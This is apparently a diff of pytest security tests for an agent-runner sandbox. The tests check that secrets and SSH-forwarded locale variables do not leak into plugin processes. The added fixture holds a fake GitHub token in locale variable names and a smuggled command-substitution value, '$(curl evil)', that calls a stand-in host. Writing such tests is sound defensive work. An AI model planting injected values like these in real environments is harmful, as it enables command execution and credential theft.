@@ -11,7 +11,9 @@ from pathlib import Path
 
 import pytest
 
+from agent_runner.plugins.childenv import LOCALE
 from agent_runner.plugins.forkserver import SHARED_PACKAGE_DIRS
+from tests.security import harness
 from tests.security.conftest import SECRET_NAME, SECRET_VALUE, run_hook
 from tests.security.harness import InProcess
 
@@ -337,7 +339,7 @@ def test_supervisor_secrets_are_not_in_the_child_environment(confined: InProcess
     env = __import__("json").loads(result.value["message"])
     assert SECRET_NAME not in env
     assert SECRET_VALUE not in result.value["message"]
-    assert set(env) <= {"PATH", "LANG", "TZ", "HOME", "TMPDIR"} | {k for k in env if k[:3] == "LC_"}
+    assert set(env) <= {"PATH", "TZ", "HOME", "TMPDIR", *LOCALE}
     assert env["HOME"] == env["TMPDIR"]
 
 
@@ -427,3 +429,43 @@ def test_no_read_root_holds_installed_distributions(confined: InProcess) -> None
         assert os.path.basename(root) not in SHARED_PACKAGE_DIRS, root
         for shared in SHARED_PACKAGE_DIRS:
             assert not os.path.isdir(os.path.join(root, shared)), root
+
+
+FORWARDED = {
+    # What `SendEnv LANG LC_*` over SSH can carry: any name, any value.
+    "LC_GITHUB_TOKEN": "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
+    "LC_TIME": "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
+    "LC_PAPER": "en_US.UTF-8",
+    "LC_CTYPE": "$(curl evil)",
+    "LC_MESSAGES": "de_DE.UTF-8",
+    "LC_ALL": "sr_RS@latin",
+    "LANG": "C.UTF-8",
+}
+
+
+@pytest.fixture(params=harness.MODES)
+def forwarded_locale(
+    request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[InProcess]:
+    """A sandbox started by a supervisor whose environment came in over SSH."""
+    for name, value in FORWARDED.items():
+        monkeypatch.setenv(name, value)
+    sandbox = harness.start(request.param, "require")
+    sandbox.start()
+    yield sandbox
+    sandbox.close()
+
+
+def test_only_posix_locale_categories_with_locale_values_reach_a_plugin(
+    forwarded_locale: InProcess,
+) -> None:
+    body = """
+    def hook(view):
+        return SpawnDecision.skip(json.dumps(sorted(k for k in os.environ if k[:3] in ("LC_", "LAN"))))
+    """
+    result = run_hook(forwarded_locale, body)
+    assert result.status == "ok", result
+    assert __import__("json").loads(result.value["reason"]) == ["LANG", "LC_ALL", "LC_MESSAGES"]
+    server_env = Path(f"/proc/{forwarded_locale.server_pid}/environ").read_bytes()
+    assert b"ghp_" not in server_env
+    assert b"LC_PAPER" not in server_env
